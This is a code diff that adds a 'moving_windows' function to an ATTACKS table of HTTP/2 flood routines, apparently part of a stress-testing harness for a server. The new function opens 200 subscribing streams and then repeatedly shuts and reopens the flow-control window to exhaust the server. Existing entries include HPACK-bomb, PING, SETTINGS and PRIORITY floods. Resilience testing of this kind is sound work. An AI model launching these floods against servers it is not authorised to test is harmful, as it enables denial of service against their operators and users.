@@ -109,6 +109,18 @@ def settings(address, begin, seconds):
     return flood(address, begin, seconds, b"", repeated(frames.settings(window=65_535)))
 
 
+def moving_windows(address, begin, seconds):
+    """SETTINGS that shut and open the windows of 200 streams, each of which has everything to send."""
+    hello = b"".join(
+        frames.headers(stream, frames.V1_STREAM)
+        + frame(frames.DATA, 0, stream, frames.subscribe(["*"], delivery=frames.EVERY_TICK))
+        for stream in range(1, 401, 2)
+    )
+    hello = frames.window_update(0, frames.LARGEST_WINDOW - 65_535) + hello
+    moves = frames.settings(window=0) + frames.settings(window=frames.LARGEST_WINDOW // 2)
+    return flood(address, begin, seconds, hello, repeated(moves), connections=1)
+
+
 def priority(address, begin, seconds):
     """PRIORITY, which a server without priorities ignores."""
     return flood(address, begin, seconds, b"", repeated(frame(frames.PRIORITY, 0, 1, b"\0\0\0\0\x10")))
@@ -126,6 +138,7 @@ ATTACKS = {
     "hpack_bomb": hpack_bomb,
     "ping": ping,
     "settings": settings,
+    "moving_windows": moving_windows,
     "priority": priority,
     "unknown": unknown,
 }
